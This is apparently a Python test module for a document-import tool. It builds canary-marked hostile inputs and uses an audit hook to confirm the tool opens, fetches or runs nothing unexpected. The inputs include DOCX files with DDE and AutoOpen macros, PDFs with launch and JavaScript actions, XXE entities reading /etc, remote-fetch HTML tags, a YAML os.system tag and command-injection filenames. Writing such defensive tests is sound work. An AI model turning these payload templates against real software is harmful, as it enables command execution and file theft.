"""Sources that ask to be helped: to fetch, to read, to run.  And a watch over all that is opened.

Every address and path in them holds a mark; what is opened, resolved, or started is kept by an
audit hook that a child process carries from its first line on.
"""

import json
import os
import subprocess
import sys
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from tests.conftest import ROOT
from tests.extract.make_ofd import build as ofd
from tests.extract.make_ofd import text_object, zipped
from tests.security.bombs import docx, pdf, pdf_page, stream, word

MARK = "canary5f3a"
"""Stands in every path and address a source asks for."""
HOST = f"{MARK}.invalid"
_TEXT = "吉林省人民政府关于开展试点工作的通知\n吉政发〔2024〕1号\n\n各市（州）人民政府：\n\n第一条 为了试点，制定本办法。\n\n吉林省人民政府\n\n2024年1月1日\n"
_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    + "".join(
        f'<Relationship Id="r{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'TargetMode="External" Target="{target}"/>'
        for n, (kind, target) in enumerate(
            (
                ("attachedTemplate", f"http://{HOST}/t.dotm"),
                ("image", f"file:///etc/{MARK}"),
                ("oleObject", f"\\\\{HOST}\\share\\x.docx"),
                ("aFChunk", f"http://{HOST}/chunk.html"),
                ("subDocument", f"file:///etc/{MARK}"),
                ("hyperlink", f"javascript:{MARK}"),
                ("frame", f"http://{HOST}/frame"),
            )
        )
    )
    + "</Relationships>"
)


def _word() -> bytes:
    text = "".join(
        f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in _TEXT.split("\n") if line
    )
    fields = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{code}</w:instrText>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in (
            f'INCLUDETEXT "/etc/{MARK}"', f'INCLUDEPICTURE "http://{HOST}/p.png"',
            f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k touch {MARK}"', f"DATABASE \\\\d {MARK}",
        )
    )  # fmt: skip
    body = word(
        f'{text}{fields}<w:altChunk r:id="r3"/><w:object><w:control r:id="r2"/></w:object>'
    )
    body = body.replace(
        "<w:document ",
        '<w:document xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
    )
    return zipped(
        {
            "word/document.xml": body,
            "word/_rels/document.xml.rels": _RELS,
            "word/settings.xml": f'<w:settings xmlns:w="x"><w:attachedTemplate r:id="r0" xmlns:r="y"/>{MARK}</w:settings>',
            f"../../{MARK}": "x",
            f"/etc/{MARK}": "x",
            "word/vbaProject.bin": f'Sub AutoOpen()\nShell "touch {MARK}"\nEnd Sub',
        }
    )  # fmt: skip


_PDF_TEXT = b"BT /F 12 Tf 50 700 Td (Notice) Tj ET"
_ACTIONS = (
    b"<< /S /JavaScript /JS (app.launchURL\\('http://%(host)s/'\\)) >>",
    b"<< /S /Launch /F (/tmp/%(mark)s) /Win << /F (cmd.exe) /P (/c touch %(mark)s) >> >>",
    b"<< /S /URI /URI (http://%(host)s/) >>",
    b"<< /S /GoToR /F (/tmp/%(mark)s.pdf) /D [0 /Fit] >>",
    b"<< /S /SubmitForm /F << /FS /URL /F (http://%(host)s/) >> >>",
    b"<< /S /ImportData /F (/tmp/%(mark)s.fdf) >>",
)


def _acting() -> bytes:
    """A PDF that does all of this when it is opened, closed, or looked at."""
    marks = {b"host": HOST.encode(), b"mark": MARK.encode()}
    filled = b" ".join(action % marks for action in _ACTIONS).join((b"[", b"]"))
    return pdf_page(
        _PDF_TEXT,
        more={
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s /AA << /WC %s >> /Names << /EmbeddedFiles << /Names [(%s) "
            b"<< /Type /Filespec /F (/tmp/%s) /EF << /F 9 0 R >> >>] >> /JavaScript << /Names [(x) %s] >> >> >>"
            % (filled, filled, MARK.encode(), MARK.encode(), filled),
            6: stream(b"q Q", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (/tmp/%s.pdf) /Page 0 >>" % MARK.encode()),
            9: stream(b"#!/bin/sh\ntouch " + MARK.encode(), b"/Type /EmbeddedFile"),
        },
    )  # fmt: skip


def _external_stream() -> bytes:
    """A PDF whose text lies in another file, as the format allows."""
    page = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 5 0 R] "
        b"/Resources << /Font << /F 6 0 R >> >> >>",
        4: stream(_PDF_TEXT),
        5: b"<< /Length 0 /F (/tmp/%s) /FFilter /FlateDecode >>\nstream\n\nendstream" % MARK.encode(),
        6: b"<< /Type /Font /Subtype /TrueType /BaseFont /Helvetica /FontDescriptor << /Type /FontDescriptor "
        b"/FontName /Helvetica /Flags 32 /FontFile2 << /F (/tmp/%s.ttf) /Length 0 >> >> >>" % MARK.encode(),
    }  # fmt: skip
    return pdf(page)


def _html() -> str:
    tags = (
        "<script src='{u}'></script>", "<script>fetch('{u}')</script>", "<link rel=stylesheet href='{u}'>",
        "<link rel=preload as=script href='{u}'>", "<base href='{u}'>", "<meta http-equiv=refresh content='0;url={u}'>",
        "<img src='{u}' srcset='{u} 2x'>", "<iframe src='{u}'></iframe>", "<object data='{u}'></object>",
        "<embed src='{u}'>", "<video src='{u}' poster='{u}'></video>", "<audio src='{u}'></audio>",
        "<style>@import '{u}';@font-face{{font-family:x;src:url({u})}}</style>", "<p style='background:url({u})'>第二条</p>",
        "<svg><image href='{u}'/><use href='{u}#x'/><script href='{u}'/></svg>", "<math><annotation-xml definitionURL='{u}'/></math>",
        "<form action='{u}'><input type=image src='{u}'></form>", "<body background='{u}'>", "<a ping='{u}' href='{u}'>x</a>",
        "<table background='{u}'><tr><td background='{u}'>x</table>", "<!--#include virtual='{u}'-->", "<?php include '{u}' ?>",
    )  # fmt: skip
    addresses = (
        f"http://{HOST}/x",
        f"file:///etc/{MARK}",
        f"//{HOST}/x",
        f"/etc/{MARK}",
        f"ftp://{HOST}/x",
    )
    asked = "".join(tag.format(u=address) for address in addresses for tag in tags)
    text = "".join(f"<p>{line}</p>" for line in _TEXT.split("\n") if line)
    return (
        f"<!DOCTYPE html><html><head><title>通知</title></head><body>{text}{asked}</body></html>"
    )


def _entities(kind: str) -> str:
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="http://{HOST}/x.xsl"?>'
        f'<!DOCTYPE x {kind} "{MARK}" [<!ENTITY % p SYSTEM "http://{HOST}/p.dtd">%p;'
        f'<!ENTITY e SYSTEM "file:///etc/{MARK}">]><x xmlns:xi="http://www.w3.org/2001/XInclude">&e;'
        f'<xi:include href="file:///etc/{MARK}" parse="text"/></x>'
    )


_ODD_NAMES = (
    f"$(touch {MARK}).txt", f"`touch {MARK}`.txt", f"a;touch {MARK}.txt", f"a|touch {MARK}.txt", f"--output={MARK}.txt",
    f"-o{MARK}.txt", "a\nb.txt", "a\x1b[2Jb.txt", f"a' & touch {MARK} & '.txt", f"%{MARK}%.txt", "：(top).txt",
)  # fmt: skip


def corpus() -> Iterator[tuple[str, bytes]]:
    """Yield names and bytes of sources that ask for what they must not get."""
    yield "page.html", _html().encode()
    yield "entities.xml", _entities("SYSTEM").encode()
    yield "entities.html", _entities("PUBLIC 'x'").replace("<?xml ", "<html>\n<?xml ").encode()
    yield (
        "inclusion.xml",
        (
            f'<?xml version="1.0"?><?xml-stylesheet href="http://{HOST}/x.xsl" type="text/xsl"?>'
            f'<x xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="http://{HOST}/ file:///etc/{MARK}"><xi:include href="file:///etc/{MARK}" parse="text"/>'
            f"<p>{_TEXT}</p></x>"
        ).encode(),
    )
    yield "text.docx", _word()
    yield "entities.docx", docx(_entities("SYSTEM"))
    yield "acting.pdf", _acting()
    yield "elsewhere.pdf", _external_stream()
    more = f'<ofd:ImageObject ResourceID="../../../../etc/{MARK}"/><ofd:Action Event="DO"><ofd:URI URI="http://{HOST}/"/></ofd:Action>'
    yield "text.ofd", ofd([text_object("关于试点的通知", 10, 10) + more])
    yield (
        "text.md",
        (
            f"---\ntitle: !!python/object/apply:os.system ['touch {MARK}']\na: &a [x]\nb: *a\n---\n\n{_TEXT}\n"
            f"![x](http://{HOST}/x.png) [x](file:///etc/{MARK}) {{% include '/tmp/{MARK}' %}} {{{{ ''.__class__ }}}}\n"
        ).encode(),
    )
    for number, name in enumerate(_ODD_NAMES):
        yield (
            name,
            _TEXT.replace("1号", f"{number + 20}号").replace("试点", f"试点{number}").encode(),
        )


HOOK = """
import os, sys
_OUT = os.open({log!r}, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
_SEEN = {{"open", "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.bind", "os.system",
         "os.exec", "os.posix_spawn", "subprocess.Popen", "urllib.Request", "ftplib.connect", "http.client.connect",
         "ctypes.dlopen", "webbrowser.open", "os.remove", "os.rename", "os.mkdir", "os.symlink", "os.link",
         "smtplib.connect", "pty.spawn", "os.fork", "os.forkpty", "os.startfile"}}
def _hook(event, given):
    if event in _SEEN:
        try:
            os.write(_OUT, (event + "\\0" + "\\0".join(map(repr, given)) + "\\n").encode("utf-8", "backslashreplace"))
        except OSError:
            pass
sys.addaudithook(_hook)
"""
"""What a child runs before anything else; `{log}` is where it tells."""


@dataclass(frozen=True)
class Seen:
    """Something that was opened, asked for or started."""

    event: str
    what: str


@dataclass(frozen=True)
class Watched:
    """What a number of command lines did."""

    statuses: list[int]
    err: str
    seen: list[Seen]


def watched(log: Path, cwd: Path, lines: list[list[str]]) -> Watched:
    """Run command lines in one child under the hook, which the children it starts carry too."""
    hook = HOOK.format(log=str(log))
    code = (
        f"{hook}import json\nfrom gazette import bounded, cli\n"
        f"bounded._START = {hook!r} + bounded._START\n"
        f"told = [cli.run(line) for line in {lines!r}]\n"
        "print('\\n' + json.dumps(told))\n"
    )
    scratch = cwd / "tmp"
    scratch.mkdir()
    place = {"PYTHONPATH": os.pathsep.join(sys.path), "TMPDIR": str(scratch)}
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=cwd, capture_output=True, text=True, errors="replace",
        check=False, timeout=300, env=os.environ | place,
    )  # fmt: skip
    if done.returncode:
        raise AssertionError(done.stderr[-2000:])
    statuses = json.loads(done.stdout.rstrip().rpartition("\n")[2])
    told = [line.split("\0", 1) for line in log.read_text("utf-8").splitlines()]
    return Watched(statuses, done.stderr, list(dict.fromkeys(Seen(*each) for each in told)))


def flow(desk: Path, sources: Path) -> list[list[str]]:
    """Return the whole way: every source, its copies, an issue of two of them, the site."""
    home = ["--home", str(desk)]
    paths = [str(path) for path in sorted(sources.iterdir())]
    return [
        *([*home, "import", "--url", f"javascript:{MARK}", "--", path] for path in paths),
        [*home, "reconcile", "--report", str(desk.parent / "review.html")],
        [*home, "issue", "new", "2024-01"],
        [*home, "issue", "section", "2024-01", "文件"],
        [*home, "issue", "add", "2024-01", "文件", "吉政发〔2024〕1号", "吉政发〔2024〕20号"],
        [*home, "build", "2024-01", "--override", f"$(touch {MARK})"],
        [*home, "publish", "--no-pdf"],
    ]


def strangers(found: Watched, places: Sequence[Path]) -> list[Seen]:
    """Return what is on no list of what may be opened, asked for or started.

    Args:
        found: What was seen.
        places: Folders of the test, where anything may be opened.
    """
    known = [*map(str, places), *_SYSTEM]
    return [each for each in found.seen if not _is_known(each, known)]


_SYSTEM = (
    sys.prefix, sys.base_prefix, *(path for path in sys.path if path), str(ROOT), "/usr/lib", "/usr/share/fonts",
    "/usr/share/zoneinfo", "/lib", "/dev/null", "/etc/mime.types", "/dev/urandom", "/proc/",
)  # fmt: skip
_PROGRAMS = (sys.executable, "git", "/usr/bin/git", "fc-list")
_STARTS = ("subprocess.Popen", "os.posix_spawn", "os.exec")


def _is_known(seen: Seen, known: Sequence[str]) -> bool:
    first = seen.what.partition("\0")[0].strip("b'\"")
    if seen.event in _STARTS:
        return first in _PROGRAMS
    if seen.event in ("os.fork", "ctypes.dlopen"):
        return True
    if seen.event in ("open", "os.mkdir", "os.remove", "os.rename", "os.link", "os.symlink"):
        return first.isdecimal() or not first.startswith("/") or first.startswith(tuple(known))
    return False
